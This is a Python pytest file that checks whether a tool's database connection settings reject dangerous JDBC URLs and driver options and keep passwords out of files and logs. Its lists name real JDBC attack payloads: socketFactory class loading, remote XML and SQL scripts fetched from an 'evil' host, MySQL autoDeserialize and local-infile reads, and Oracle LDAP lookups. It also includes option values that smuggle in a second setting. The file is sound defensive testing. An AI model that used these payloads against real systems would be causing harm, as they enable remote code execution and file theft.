"""Connections as settings: what a URL or an option could do besides leading to a database is refused."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from drls_dagster.connections.databases import DATABASES
from drls_dagster.connections.settings import ConnectionSettings
from drls_dagster.engine.client import fingerprint
from drls_dagster.engine.conf import spark_conf
from drls_dagster.engine.handover import certificates, hand_over
from drls_dagster.engine.jars import coordinates, ensure_jars, given_jars
from drls_dagster.errors import DrlsError, UsageError
from drls_dagster.private_home import private_home
from drls_dagster.settings import Settings, load_settings
from lifecycle.domain.environment import Environment

URLS = {name: one.example for name, one in DATABASES.items()}
HOSTILE_URLS = [
    ("postgresql", "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.FileSystemXmlApplicationContext"),
    ("postgresql", "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/tmp/x.jsp"),
    ("postgresql", "jdbc:postgresql://h/?socketFactoryArg=http://evil/x.xml"),
    ("postgresql", "jdbc:postgresql:d"),
    ("postgresql", "jdbc:postgresql://u:secret@h/d"),
    ("postgresql", "jdbc:postgresql://h1,h2/d"),
    ("postgresql", "jdbc:postgresql://h/d\n"),
    ("postgresql", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"),
    ("postgresql", "jdbc:postgresql://h:99999/d"),
    ("mysql", "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
    ("mysql", "jdbc:mysql://h/d?allowLoadLocalInfile=true"),
    ("mysql", "jdbc:mysql://(host=h,allowLoadLocalInfile=true)/d"),
    ("mysql", "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d"),
    ("mysql", "jdbc:mysql:loadbalance://h/d"),
    ("sqlserver", "jdbc:sqlserver://h;databaseName=d;socketFactoryClass=evil"),
    ("sqlserver", "jdbc:sqlserver://h;databaseName=d;user=sa;password=x"),
    ("oracle", "jdbc:oracle:thin:u/secret@//h/d"),
    ("oracle", "jdbc:oracle:thin:@//h/d?TNS_ADMIN=/tmp"),
    ("oracle", "jdbc:oracle:thin:@ldap://evil/x"),
]  # fmt: skip
HOSTILE_OPTIONS = [
    *(("postgresql", name) for name in ("socketFactory", "socketFactoryArg", "sslfactory", "sslhostnameverifier")),
    *(("postgresql", name) for name in ("authenticationPluginClassName", "xmlFactoryFactory", "loggerFile", "sslkey")),
    *(("postgresql", name) for name in ("jaasApplicationName", "options", "url", "dbtable", "sessionInitStatement")),
    *(("mysql", name) for name in ("autoDeserialize", "allowLoadLocalInfile", "allowUrlInLocalInfile", "socketFactory")),
    *(("mysql", name) for name in ("queryInterceptors", "propertiesTransform", "allowMultiQueries", "sessionVariables")),
    *(("sqlserver", name) for name in ("socketFactoryClass", "trustManagerClass", "accessTokenCallbackClass", "JAASConfig")),
    *(("oracle", name) for name in ("oracle.net.tns_admin", "oracle.net.wallet_location", "TNS_ADMIN")),
]  # fmt: skip


def made(driver: str, url: str | None = None, **more: Any) -> ConnectionSettings:
    return ConnectionSettings.model_validate({"driver": driver, "url": url or URLS[driver], **more})


def with_connection(home: Path, **more: Any) -> Settings:
    return Settings(home=home, connections={"a": made("postgresql", **more)})


@pytest.mark.parametrize("driver", DATABASES)
def test_the_url_that_messages_show_is_one_that_is_taken(driver: str) -> None:
    assert made(driver).place["database"] in {"database", "service"}


@pytest.mark.parametrize(("driver", "url"), HOSTILE_URLS)
def test_a_url_leads_to_a_database_and_does_nothing_else(driver: str, url: str) -> None:
    with pytest.raises(ValidationError, match=r"the url (must be written as jdbc:|has the port)"):
        made(driver, url)


@pytest.mark.parametrize(("driver", "option"), HOSTILE_OPTIONS)
def test_an_option_that_loads_a_class_or_file_or_runs_a_script_is_refused(driver: str, option: str) -> None:
    with pytest.raises(ValidationError, match=f"the option '{option}' of .* is not allowed"):
        made(driver, options={option: "x"})


@pytest.mark.parametrize("value", ["a&loggerFile=x", "a;b", "a\nb", "{a}", "a?b"])
def test_the_value_of_an_option_brings_no_second_one(value: str) -> None:
    with pytest.raises(ValidationError, match="characters that no option needs"):
        made("postgresql", options={"currentSchema": value})


def test_a_driver_that_drls_does_not_know_needs_its_jar() -> None:
    url = "jdbc:acme://host/db"
    with pytest.raises(ValidationError, match="jar must name the file"):
        made("com.acme.Driver", url)
    assert made("com.acme.Driver", url, jar="/opt/acme.jar").driver_class == "com.acme.Driver"
    with pytest.raises(ValidationError, match='write driver = "postgresql"'):
        made("org.postgresql.Driver", "jdbc:postgresql://h/d?socketFactory=x", jar="/opt/postgresql.jar")
    with pytest.raises(ValidationError, match="url has a password"):
        made("com.acme.Driver", "jdbc:acme://u:secret@host/db", jar="/opt/acme.jar")
    with pytest.raises(ValidationError, match="driver must be postgresql, mysql, sqlserver, oracle or the class"):
        made("postgres", url)


def test_settings_never_hold_or_print_a_password(drls_home: Path) -> None:
    drls_home.mkdir()
    text = '[connections.a]\ndriver = "postgresql"\nurl = "jdbc:postgresql://h/d"\npassword = "kanarienvogel"\n'
    (drls_home / "drls.toml").write_text(text)
    with pytest.raises(UsageError) as refused:
        load_settings(drls_home)
    assert "connections.a.password" in str(refused.value)
    assert "kanarienvogel" not in str(refused.value)
    assert "h/d" not in repr(with_connection(drls_home, url="jdbc:postgresql://h/d"))


def test_an_environments_connection_comes_before_that_of_all() -> None:
    own = {"connections": {"a": {"driver": "mysql", "url": "jdbc:mysql://h/d"}}}
    settings = Settings.model_validate(
        {
            "home": "/nowhere",
            "connections": {"a": made("postgresql"), "b": made("oracle")},
            "environments": {"uat": own},
        }
    )
    drivers = [settings.connection_for(one, "a") for one in Environment]
    assert [one and one.driver for one in drivers] == ["postgresql", "postgresql", "mysql", "postgresql"]
    assert settings.connection_for(Environment.UAT, "b") == made("oracle")
    assert settings.connection_for(Environment.UAT, "c") is None


def test_the_engine_starts_with_the_drivers_jars_and_again_when_they_change(drls_home: Path, tmp_path: Path) -> None:
    jar = tmp_path / "acme.jar"
    plain, own = Settings(home=drls_home), with_connection(drls_home)
    assert set(coordinates(own)) - set(coordinates(plain)) == {"org.postgresql:postgresql:42.7.7"}
    assert fingerprint(plain) != fingerprint(own)
    given = with_connection(drls_home, jar=str(jar))
    assert coordinates(given) == coordinates(plain)
    assert given_jars(given) == (str(jar),)
    with pytest.raises(DrlsError, match="is no file; correct its jar"):
        ensure_jars(given)


def test_the_engine_can_read_the_certificates_that_options_name(drls_home: Path) -> None:
    own = with_connection(drls_home, options={"sslmode": "verify-full", "sslrootcert": "/etc/ca.pem"})
    assert certificates(own) == ("/etc/ca.pem",)
    with pytest.raises(ValidationError, match="absolute path"):
        made("postgresql", options={"sslrootcert": "ca.pem"})


def test_what_the_engine_is_handed_names_the_place_of_a_password_and_not_the_password(
    drls_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("A_PASSWORD", "kanarienvogel")
    private_home(drls_home, "engine")
    hand_over(with_connection(drls_home, password="env:A_PASSWORD"))
    assert "kanarienvogel" not in (drls_home / "engine/settings.json").read_text()


def test_spark_takes_passwords_out_of_the_text_of_requests(drls_home: Path) -> None:
    import re

    pattern = spark_conf(Settings(home=drls_home), [], 1)["spark.sql.redaction.string.regex"]
    text = 'options {\n  key: "password"\n  value: "kana\\"rienvogel"\n}\noptions {\n  key: "user"\n  value: "u"\n}'
    assert re.sub(pattern, "***", text) == 'options {\n  ***\n}\noptions {\n  key: "user"\n  value: "u"\n}'
